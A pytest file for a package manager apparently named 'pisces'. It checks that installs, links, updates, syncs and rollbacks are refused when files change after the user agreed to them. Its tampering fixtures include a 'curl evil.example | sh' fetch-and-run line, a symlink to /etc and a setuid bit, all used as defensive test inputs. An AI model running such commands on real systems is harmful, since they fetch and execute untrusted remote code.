"""What is put in place is what was agreed to: the question may wait for hours, and files change meanwhile."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from pisces.diagnostics import PiscesError
from pisces.harnesses.gemini.store import act as gemini
from pisces.harnesses.gemini.store.stored import read_index as gemini_index
from pisces.packages.fetching.source import parse_source
from pisces.packages.install import Installer, InstallRequest, install, link
from pisces.packages.lock.lock import Renewal, lock
from pisces.packages.lock.project_file import project_here
from pisces.packages.lock.sync import Wanted, sync
from pisces.packages.store.store import own_store, read_index
from pisces.packages.uninstall import rollback
from pisces.packages.update import update
from pisces.places import Places
from tests.gates.judges import deciding

MANIFEST = "gemini-extension.json"


def swapped(folder: Path) -> None:
    """The stage is a link to a folder with the same files, which can be changed later."""
    theirs = folder.parent / "theirs"
    folder.rename(theirs)
    folder.symlink_to(theirs)


CHANGES: dict[str, Callable[[Path], object]] = {
    "bytes": lambda folder: (folder / "run.sh").write_text("curl evil.example | sh"),
    "added": lambda folder: (folder / "new.sh").write_text("x"),
    "removed": lambda folder: (folder / "run.sh").unlink(),
    "run bit": lambda folder: (folder / "run.sh").chmod(0o755),
    "link": lambda folder: (folder / "out").symlink_to("/etc"),
    "folder": lambda folder: swapped(folder),
    "owner's rights": lambda folder: (folder / "run.sh").chmod(0o4644),
}


@pytest.fixture
def places(tmp_path: Path) -> Places:
    (tmp_path / "home").mkdir()
    (tmp_path / "work").mkdir()
    return Places(str(tmp_path / "home"), str(tmp_path / "work"), {"PATH": os.environ.get("PATH", os.defpath)})


def package(places: Places, version: str = "1.0.0") -> Path:
    folder = Path(places.cwd, "kit")
    folder.mkdir(exist_ok=True)
    (folder / MANIFEST).write_text(f'{{"name": "kit", "version": "{version}"}}')
    (folder / "run.sh").write_text(f"echo {version}")
    (folder / "run.sh").chmod(0o644)
    return folder


def agreeing(places: Places, meanwhile: Callable[[Path], object] = lambda _folder: None) -> Installer:
    """Somebody who says yes, while another process changes the folder that is asked about."""

    def decide(request: InstallRequest) -> bool:
        meanwhile(Path(request.folder))
        return True

    return Installer(own_store(places), places, deciding(decide), lambda _line: None)


def refusal(act: Callable[[], object]) -> str:
    with pytest.raises(PiscesError) as error:
        act()
    return error.value.diagnostic.code


@pytest.mark.skipif(os.name == "nt", reason="modes and links are made the POSIX way")
@pytest.mark.parametrize("change", CHANGES.values(), ids=list(CHANGES))
@pytest.mark.parametrize("acts", ["ours", "gemini"])
def test_a_stage_that_changes_while_the_question_waits_is_not_installed(
    acts: str, change: Callable[[Path], object], places: Places
) -> None:
    source = parse_source(str(package(places)), places)
    put = install if acts == "ours" else gemini.install
    code = refusal(lambda: put(source, agreeing(places, change)))
    assert code in ("consent-content-changed", "tree-special-bits")
    assert read_index(own_store(places)) == {}
    assert gemini_index(places) == {}
    assert put(source, agreeing(places)).changed, "the next try finds nothing in its way"


@pytest.mark.parametrize("acts", ["ours", "gemini"])
def test_a_source_that_changes_while_the_question_waits_is_installed_as_it_was_shown(acts: str, places: Places) -> None:
    folder = package(places)
    source = parse_source(str(folder), places)
    put = install if acts == "ours" else gemini.install
    outcome = put(source, agreeing(places, lambda _stage: (folder / "run.sh").write_text("evil")))
    assert Path(outcome.package.folder, "run.sh").read_text() == "echo 1.0.0"


@pytest.mark.parametrize("put", [link, gemini.link], ids=["ours", "gemini"])
def test_a_folder_that_changes_while_the_question_waits_is_not_linked(
    put: Callable[[str, Installer], object], places: Places
) -> None:
    folder = str(package(places))
    assert refusal(lambda: put(folder, agreeing(places, CHANGES["bytes"]))) == "consent-content-changed"
    assert read_index(own_store(places)) == {}
    assert gemini_index(places) == {}


def test_an_update_that_changes_while_the_question_waits_leaves_the_old_version(places: Places) -> None:
    before = install(parse_source(str(package(places)), places), agreeing(places)).package
    package(places, "2.0.0")
    code = refusal(lambda: update(before, agreeing(places, CHANGES["bytes"])))
    assert code == "consent-content-changed"
    assert read_index(own_store(places)) == {"kit": before}
    assert Path(before.folder, "run.sh").read_text() == "echo 1.0.0"


def test_a_sync_that_changes_while_the_question_waits_installs_nothing(places: Places) -> None:
    package(places)
    Path(places.cwd, ".pisces").mkdir()
    Path(places.cwd, ".pisces", "packages.toml").write_text('[packages.kit]\nsource = "./kit"\n')
    project = project_here(places)
    lock(project, agreeing(places), Renewal())
    code = refusal(lambda: sync(project, agreeing(places, CHANGES["bytes"]), Wanted(frozen=True)))
    assert code == "consent-content-changed"
    assert read_index(own_store(places)) == {}


def test_going_back_is_only_to_files_that_somebody_agreed_to(places: Places) -> None:
    before = install(parse_source(str(package(places)), places), agreeing(places)).package
    package(places, "2.0.0")
    now = update(before, agreeing(places))[0]
    Path(before.folder, "run.sh").write_text("evil")
    assert refusal(lambda: rollback("kit", agreeing(places))) == "no-other-version"
    assert read_index(own_store(places)) == {"kit": now}
